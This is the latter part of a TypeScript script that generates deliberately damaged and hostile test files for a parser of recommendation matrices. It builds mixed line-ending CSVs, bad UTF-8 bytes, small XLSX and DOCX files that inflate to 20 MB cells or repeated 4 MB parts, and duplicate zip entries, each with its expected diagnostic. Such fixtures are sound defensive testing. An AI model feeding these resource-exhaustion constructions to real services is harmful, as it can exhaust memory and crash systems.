    what: "A CRLF file with LF lines appended (as `echo >>` does), then bare-CR lines, then CRLF again (D2): papaparse split on the first kind only and 9 of 19 recommendations ran on inside the last cell. Every line break outside quotes ends a record.",
    codes: [],
    exit: 0,
    minRecommendations: 19,
    bytes: `Recommendation,Position\r\n${[1, 2, 3, 4, 5, 6, 7, 8, 9, 10].map((i) => `${rec(i)}\r\n`).join("")}${[11, 12, 13].map((i) => `${rec(i)}\n`).join("")}${[14, 15, 16].map((i) => `${rec(i)}\r`).join("")}${[17, 18, 19].map((i) => `${rec(i)}\r\n`).join("")}`,
  });

  // --- D7: UTF-8 with a bad byte -----------------------------------------------------------------
  const french = `Recommandation,Position\r\n${["Côte d'Ivoire", "Sénégal", "Bénin"].map((st, i) => `"121.${i + 1} Renforcer l'indépendance de l'institution nationale des droits de l'homme (${st});",Acceptée`).join("\r\n")}\r\n`;
  const frenchBytes = utf8(french);
  add({
    file: "csv-utf8-stray-byte.csv",
    what: "A French UTF-8 export with one Windows-1252 byte (0x92, a curly apostrophe) near its end (D7): one bad byte turned the whole file into Windows-1252 (\"CÃ´te d'Ivoire\", positions unknown). Now read as UTF-8, the byte as ’, with a warning at its row and line.",
    codes: ["invalid-encoding"],
    exit: 0,
    strictExit: 1,
    minRecommendations: 3,
    bytes: concat([frenchBytes.subarray(0, frenchBytes.length - 40), new Uint8Array([0x92]), frenchBytes.subarray(frenchBytes.length - 40)]),
  });
  add({
    file: "csv-utf8-cut-character.csv",
    what: "A French UTF-8 export cut inside its last character (the é of the last \"Acceptée\", D7): read as UTF-8, the lone lead byte reported.",
    codes: ["invalid-encoding"],
    exit: 0,
    strictExit: 1,
    minRecommendations: 3,
    bytes: frenchBytes.subarray(0, frenchBytes.lastIndexOf(0xa9)),
  });

  // --- D9: small files that expand to a lot ------------------------------------------------------
  const row = '<row><c t="inlineStr"><is><t>121.1 Strengthen the national human rights institution (Ghana);</t></is></c><c t="inlineStr"><is><t>Supported</t></is></c></row>';
  const header = '<row><c t="inlineStr"><is><t>Recommendation</t></is></c><c t="inlineStr"><is><t>Position</t></is></c></row>';
  add({
    file: "xlsx-many-rows-small-file.xlsx",
    what: "10,000 identical rows without row numbers in a file of a few kilobytes (1.3 MB of XML, D9): what a workbook costs is what it declares once inflated, not its size on disk. Each row is read (as a duplicate of the first).",
    codes: ["duplicate-id"],
    exit: 0,
    strictExit: 1,
    minRecommendations: 10_000,
    bytes: xlsxParts([{ name: "Matrix", part: "xl/worksheets/sheet1.xml" }], [{ name: "xl/worksheets/sheet1.xml", raw: repeated(SHEET_HEAD + header, row, 10_000, "</sheetData></worksheet>") }]),
  });
  add({
    file: "xlsx-sheets-share-part.xlsx",
    what: "40 sheets whose relationships all point to one 4 MB worksheet part (D9): it was inflated and parsed once per sheet. Now the part is read once; the other sheets are reported.",
    codes: ["corrupt-file"],
    exit: 0,
    strictExit: 1,
    bytes: xlsxParts(
      Array.from({ length: 40 }, (_, i) => ({ name: `Sheet${i + 1}`, part: "xl/worksheets/sheet1.xml" })),
      [{ name: "xl/worksheets/sheet1.xml", raw: repeated(SHEET_HEAD + rowsXml(MATRIX) + "<!--", "padding ", 500_000, "--></sheetData></worksheet>") }],
    ),
  });
  const words = "and guarantee a fair trial ";
  add({
    file: "xlsx-20mb-cell.xlsx",
    what: "A recommendation cell (an inline string) of 20 MB in a file of about 50 KB (D9: a 480 MB cell took 2 GB): the cell was accumulated whole before being cut. It stops growing at limits.maxCellLength, and is cut and reported.",
    codes: ["limit-exceeded"],
    exit: 0,
    strictExit: 1,
    bytes: xlsxParts([{ name: "Matrix", part: "xl/worksheets/sheet1.xml" }], [
      { name: "xl/worksheets/sheet1.xml", raw: repeated(`${SHEET_HEAD}${rowsXml([HEADER, RECS[0]!])}<row r="3"><c r="A3" t="inlineStr"><is><t>117.2 Abolish the death penalty `, words, Math.floor(20_000_000 / words.length), `</t></is></c><c r="B3" t="inlineStr"><is><t>Noted</t></is></c></row></sheetData></worksheet>`) },
    ]),
  });
  add({
    file: "xlsx-20mb-shared-string.xlsx",
    what: "A shared string of 20 MB (D9): kept to limits.maxCellLength as it is read; the cell that uses it is cut and reported.",
    codes: ["limit-exceeded"],
    exit: 0,
    strictExit: 1,
    bytes: xlsxParts([{ name: "Matrix", part: "xl/worksheets/sheet1.xml" }], [
      { name: "xl/worksheets/sheet1.xml", data: utf8(`${SHEET_HEAD}${rowsXml([HEADER, RECS[0]!])}<row r="3"><c r="A3" t="s"><v>0</v></c><c r="B3" t="inlineStr"><is><t>Noted</t></is></c></row></sheetData></worksheet>`) },
      { name: "xl/sharedStrings.xml", raw: repeated('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>117.2 Abolish the death penalty ', words, Math.floor(20_000_000 / words.length), "</t></si></sst>") },
    ], true),
  });
  add({
    file: "docx-20mb-paragraph.docx",
    what: "A recommendation cell whose paragraph holds 20 MB of text (D9): it stops growing at limits.maxCellLength, and is cut and reported.",
    codes: ["limit-exceeded"],
    exit: 0,
    strictExit: 1,
    bytes: zip([
      { name: "[Content_Types].xml", data: utf8(DOCX_TYPES) },
      { name: "_rels/.rels", data: utf8(DOCX_RELS) },
      { name: "word/document.xml", raw: repeated(documentXml("").split("<w:sectPr/>")[0]! + `<w:tbl>${[HEADER, RECS[0]!].map((r) => `<w:tr>${r.map(tcell).join("")}</w:tr>`).join("")}<w:tr><w:tc><w:p><w:r><w:t>117.2 Abolish the death penalty `, words, Math.floor(20_000_000 / words.length), `</w:t></w:r></w:p></w:tc>${tcell("Noted")}</w:tr></w:tbl><w:sectPr/></w:body></w:document>`) },
    ]),
  });

  // --- D19: DOCX the reader misread ------------------------------------------------------------
  add({
    file: "docx-ns0-prefix.docx",
    what: "The matrix with WordprocessingML bound to the prefix ns0: instead of w: (valid XML, as Python's ElementTree writes it; D19): it gave no-table. Elements are matched by the namespace's prefix.",
    codes: [],
    exit: 0,
    minRecommendations: 4,
    bytes: zip([{ name: "[Content_Types].xml", data: utf8(DOCX_TYPES) }, { name: "_rels/.rels", data: utf8(DOCX_RELS) }, { name: "word/document.xml", data: utf8(documentXml(table(MATRIX)).replace(/(<\/?)w:/g, "$1ns0:").replace(/ w:/g, " ns0:").replace("xmlns:w=", "xmlns:ns0=")) }]),
  });
  add({
    file: "docx-300k-breaks.docx",
    what: "A recommendation cell holding 300,000 line breaks (<w:br/>, D19): spreading its lines into push() overflowed the call stack and the whole document was lost. The cell stops growing at limits.maxCellLength (its blank lines are dropped) and the table is read.",
    codes: [],
    exit: 0,
    minRecommendations: 4,
    bytes: docx(table(MATRIX).replace("(Denmark);</w:t></w:r>", `(Denmark);</w:t>${"<w:br/>".repeat(300_000)}</w:r>`)),
  });

  // --- D20: one name, two entries -------------------------------------------------------------
  add({
    file: "xlsx-duplicate-entries.xlsx",
    what: "Two zip entries named xl/worksheets/sheet1.xml with different rows (D20): one reader kept the first, another the last. Refused as damaged.",
    codes: ["corrupt-file"],
    exit: 2,
    bytes: xlsxParts([{ name: "Matrix", part: "xl/worksheets/sheet1.xml" }], [
      { name: "xl/worksheets/sheet1.xml", data: utf8(`${SHEET_HEAD}${rowsXml(MATRIX)}</sheetData></worksheet>`) },
      { name: "xl/worksheets/sheet1.xml", data: utf8(`${SHEET_HEAD}${rowsXml([HEADER, [RECS[1]![0]!, "Supported", "", ""]])}</sheetData></worksheet>`) },
    ]),
  });
  add({
    file: "docx-duplicate-entries.docx",
    what: "Two zip entries named word/document.xml and WORD/document.xml (part names are case-insensitive in Office files, D20). Refused as damaged.",
    codes: ["corrupt-file"],
    exit: 2,
    bytes: zip([{ name: "[Content_Types].xml", data: utf8(DOCX_TYPES) }, { name: "_rels/.rels", data: utf8(DOCX_RELS) }, { name: "word/document.xml", data: utf8(documentXml(table(MATRIX))) }, { name: "WORD/document.xml", data: utf8(documentXml(table([HEADER, RECS[1]!]))) }]),
  });
}

// ------------------------------------------------------------------------------------------------
// Write or check
// ------------------------------------------------------------------------------------------------

function main(): void {
  const fixtures = build();
  const names = new Set<string>();
  for (const f of fixtures) {
    if (names.has(f.file)) throw new Error(`duplicate fixture ${f.file}`);
    names.add(f.file);
    if (f.bytes.length > MAX_FIXTURE_BYTES) throw new Error(`${f.file} is ${f.bytes.length} bytes, over ${MAX_FIXTURE_BYTES}`);
  }
  const manifest = {
    about: "Damaged and hostile inputs, generated by scripts/make-bad-fixtures.ts (do not edit by hand). Each must produce the listed diagnostic codes and `upr-matrix parse <file>` must exit with `exit` (0 read, 1 read with errors, 2 unreadable), printing one line per problem and no stack trace. Limits are the defaults of src/ingest/options.ts. See docs/security.md.",
    fixtures: fixtures.map(({ bytes, ...rest }) => ({ ...rest, bytes: bytes.length })),
  };
  const files = new Map<string, Uint8Array>(fixtures.map((f) => [f.file, f.bytes]));
  files.set("manifest.json", utf8(`${JSON.stringify(manifest, null, 2)}\n`));
  if (CHECK) {
    let bad = 0;
    for (const [name, bytes] of files) {
      const path = join(OUT, name);
      const disk = existsSync(path) ? new Uint8Array(readFileSync(path)) : null;
      if (!disk || disk.length !== bytes.length || !disk.every((b, i) => b === bytes[i])) {
        console.error(`differs: fixtures/bad/${name}`);
        bad++;
      }
    }
    const extra = existsSync(OUT) ? readdirSync(OUT).filter((n) => !files.has(n)) : [];
    for (const n of extra) console.error(`not generated: fixtures/bad/${n}`);
    if (bad || extra.length) process.exit(1);
    console.log(`fixtures/bad: ${fixtures.length} fixtures up to date`);
    return;
  }
  mkdirSync(OUT, { recursive: true });
  for (const [name, bytes] of files) writeFileSync(join(OUT, name), bytes);
  const total = fixtures.reduce((n, f) => n + f.bytes.length, 0);
  console.log(`wrote ${fixtures.length} fixtures to fixtures/bad/ (${(total / 1024).toFixed(0)} KB) and manifest.json`);
}

main();
